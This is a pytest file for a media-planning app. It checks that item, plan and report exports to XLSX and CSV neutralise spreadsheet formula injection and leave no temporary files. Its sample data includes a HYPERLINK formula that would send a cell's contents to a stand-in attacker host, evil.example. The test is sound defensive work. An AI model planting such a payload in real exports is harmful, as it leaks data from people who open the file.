"""Spreadsheet and CSV exports are safe to open (issue 12): a cell a spreadsheet would run as a formula (=, +, -,
@, a tab or a carriage return first) comes out as inert text with a leading apostrophe, in every export (the
items, the month's plan, the report workbook), and no export leaves a file in the temporary folder, whether it
completes or fails midway (openpyxl kept each sheet in a temporary file until the save completed)."""

from __future__ import annotations

import csv
import io
import tempfile
from datetime import datetime, timezone
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy import update

from accounts import signed_in
from calendar_helpers import person
from mediaplan.calendar import stories as planning
from mediaplan.crawler.store import Fetched, upsert_item
from mediaplan.db import session_scope
from mediaplan.db.schema import Item
from mediaplan.services.items import EXPORT_FIELDS, export_items
from mediaplan.tabular import Sheet, safe_cell, write_xlsx
from mediaplan.web.app import create_app

# Titles that Excel or LibreOffice would evaluate (a link that sends data out, arithmetic, an @-function) or
# that some readers strip into one: each must come out exactly as typed, behind one apostrophe.
FORMULAS = ['=HYPERLINK("http://evil.example/?q="&A1,"Bấm vào đây")', "+1", "-2", "@x", "\tx", "\rx"]
HARMLESS = ["Học sinh giỏi", "'đã có dấu nháy", "1+1", "a=b"]


@pytest.fixture
def scratch(tmp_path, monkeypatch) -> Path:
    """An empty temporary folder that every library asking `tempfile` is given, to see what an export leaves."""
    folder = tmp_path / "tmp"
    folder.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(folder))
    return folder


def assert_inert_xlsx(data: bytes | Path, titles: list[str], sheet: str | None = None) -> set[str]:
    """Each title is in the workbook as the text cell "'" + title, no cell is a formula or starts like one;
    returns the text cells."""
    wb = load_workbook(io.BytesIO(data) if isinstance(data, bytes) else data)
    cells = [c for ws in ([wb[sheet]] if sheet else wb.worksheets) for row in ws.iter_rows() for c in row]
    assert not [c.value for c in cells if c.data_type == "f"]
    values = {c.value for c in cells if c.data_type == "s"}
    for title in titles:
        assert "'" + title in values and title not in values, title
    assert not [v for v in values if v.startswith(("=", "+", "-", "@", "\t", "\r"))]
    return values


def assert_inert_csv(text: str, titles: list[str]) -> None:
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    for title in titles:
        assert "'" + title in cells and title not in cells, title
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_safe_cell_neutralises_exactly_the_formula_starts():
    for value in FORMULAS:
        assert safe_cell(value) == "'" + value
    for value in HARMLESS:
        assert safe_cell(value) == value
    assert safe_cell(-2) == -2 and safe_cell(1.5) == 1.5 and safe_cell(None) is None  # numbers stay numbers


def add_items_titled(titles: list[str], bodies: list[str] | None = None) -> None:
    """Stored items of November 2026 whose titles look like formulas, kept exactly as given (the store would
    turn a leading tab into a space; a row written by SQL keeps it, and the export must cope all the same)."""
    for n, title in enumerate(titles):
        url = f"https://baoquangngai.vn/giao-duc/202611/tin-{n}.htm"
        with session_scope() as session:
            upsert_item(session, Fetched(source_key="baoquangngai-rss", kind="article", url=url, canonical_url=url,
                                         title=f"Tin số {n}", body=(bodies or [])[n] if bodies else f"Tin số {n}.",
                                         published_at=datetime(2026, 11, 10 + n, 2, 0, tzinfo=timezone.utc)))
        with session_scope() as session:
            session.execute(update(Item).where(Item.canonical_url == url).values(title=title))


def test_the_item_export_is_inert_in_xlsx_and_csv_and_leaves_no_file(db, tmp_path, scratch):
    add_items_titled(FORMULAS + HARMLESS)
    with session_scope() as session:
        xlsx = io.BytesIO()
        assert export_items(session, "xlsx", xlsx, month="2026-11") == len(FORMULAS + HARMLESS)
        assert list(scratch.iterdir()) == []
        text = io.StringIO()
        export_items(session, "csv", text, month="2026-11")
        export_items(session, "xlsx", tmp_path / "out" / "items.xlsx")
        export_items(session, "csv", tmp_path / "out" / "items.csv")
    assert set(HARMLESS) <= assert_inert_xlsx(xlsx.getvalue(), FORMULAS)  # text that is no formula stays as typed
    assert_inert_xlsx(tmp_path / "out" / "items.xlsx", FORMULAS)
    assert_inert_csv(text.getvalue(), FORMULAS)
    assert_inert_csv((tmp_path / "out" / "items.csv").read_bytes().decode("utf-8"), FORMULAS)  # no newline translation
    title = EXPORT_FIELDS.index("title")
    rows = list(csv.reader(io.StringIO(text.getvalue(), newline="")))
    assert [r[title] for r in rows[1:]] == [safe_cell(t) for t in FORMULAS + HARMLESS]  # harmless text as typed
    assert list(scratch.iterdir()) == []


def test_the_plan_download_is_inert_and_leaves_no_file(db, scratch):
    with session_scope() as session:
        person(session, "minhchau", "Minh Châu")  # assignees are users
        for n, title in enumerate(FORMULAS):
            story = planning.add_story(session, f"Tin {n}", "Lan", coverages=[
                dict(platform="online", fmt="news", outlet="baoquangngai", publish_at=datetime(2026, 11, 2 + n, 8, 0),
                     assignee="minhchau")])
            story.title = title  # as typed, a leading tab included (add_story trims; a row by SQL would not)
    client = signed_in(db)
    xlsx = client.get("/calendar/export?month=2026-11&format=xlsx")
    assert xlsx.status_code == 200 and list(scratch.iterdir()) == []
    assert_inert_xlsx(xlsx.content, FORMULAS)
    csv_file = client.get("/calendar/export?month=2026-11&format=csv")
    assert csv_file.status_code == 200 and list(scratch.iterdir()) == []
    assert_inert_csv(csv_file.content.decode("utf-8-sig"), FORMULAS)


def test_the_report_workbook_is_inert_and_leaves_no_file(sqlite_db, tmp_path, scratch):
    from mediaplan.nlp.pipeline import classify_items
    from mediaplan.reports.build import write_xlsx as write_report
    from mediaplan.reports.metrics import compute

    news = [("=Tuyên dương 46 nhà giáo tiêu biểu", "Sở Giáo dục và Đào tạo tuyên dương các nhà giáo tiêu biểu."),
            ("+Trao học bổng cho học sinh nghèo vượt khó", "Hội Khuyến học trao 50 suất học bổng cho học sinh."),
            ("-Khai giảng năm học mới ở đặc khu Lý Sơn", "Các trường mầm non, tiểu học đón học sinh vào năm học mới."),
            ("@Tập huấn giáo viên dạy tiếng Anh", "Giáo viên tiếng Anh các trường trung học được bồi dưỡng.")]
    titles = [t for t, _ in news]
    add_items_titled(titles, [f"{t[1:]}. {body}" for t, body in news])
    with session_scope() as session:
        classify_items(session)
        figures = compute(session, "2026-11")
    assert {i["title"] for i in figures["items"]} >= set(titles)  # the education items the report lists
    write_report(figures, tmp_path / "report.xlsx")
    assert list(scratch.iterdir()) == []
    assert_inert_xlsx(tmp_path / "report.xlsx", titles, sheet="Danh sách tin bài")


def test_no_temporary_file_while_an_export_runs_nor_after_it_fails(tmp_path, scratch):
    """The sheet's rows go straight into the workbook: nothing in the temporary folder mid-export, and an export
    whose rows fail leaves neither a temporary file nor a half-written workbook behind."""
    seen = []

    def rows(fail: bool):
        for n in range(2000):
            if n == 1000:
                seen.append(sorted(p.name for p in scratch.iterdir()))
                if fail:
                    raise RuntimeError("mất kết nối cơ sở dữ liệu")
            yield [n, f"=A{n}", "học sinh " * 5]

    out = io.BytesIO()
    sheets = [Sheet("Một", ["số", "công thức", "chữ"], rows(False)), Sheet("Hai", ["x"], [["y"]])]
    assert write_xlsx(out, sheets) == 2001
    assert seen == [[]] and list(scratch.iterdir()) == []
    wb = load_workbook(out)
    assert wb.sheetnames == ["Một", "Hai"] and wb["Một"].max_row == 2001 and wb["Một"]["B2"].value == "'=A0"
    assert wb["Một"].freeze_panes == "A2" and wb["Hai"]["A2"].value == "y"
    target = tmp_path / "out" / "plan.xlsx"
    with pytest.raises(RuntimeError):
        write_xlsx(target, [Sheet("Một", ["số"], rows(True))])
    assert seen == [[], []] and list(scratch.iterdir()) == [] and not target.exists()
